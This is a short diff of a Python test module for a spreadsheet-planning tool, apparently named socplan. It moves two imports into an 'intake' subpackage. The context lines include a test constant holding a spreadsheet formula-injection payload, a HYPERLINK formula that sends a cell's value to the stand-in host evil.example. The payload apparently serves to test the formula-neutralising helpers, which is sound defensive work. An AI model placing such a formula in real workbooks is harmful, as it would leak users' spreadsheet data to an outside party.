@@ -14,10 +14,10 @@ from builders import milestone, milestones
 
 from socplan.cells import FORMULA_STARTS, formula_like, neutralise, put
 from socplan.cli import main
+from socplan.intake.template import write_template
+from socplan.intake.workbook import Vocabulary, parse_workbook
 from socplan.periods import Period
 from socplan.store import Store
-from socplan.template import write_template
-from socplan.workbook import Vocabulary, parse_workbook
 
 Q3 = Period(2019, 3)
 EVIL = '=HYPERLINK("http://evil.example/?x="&B2,"x")'
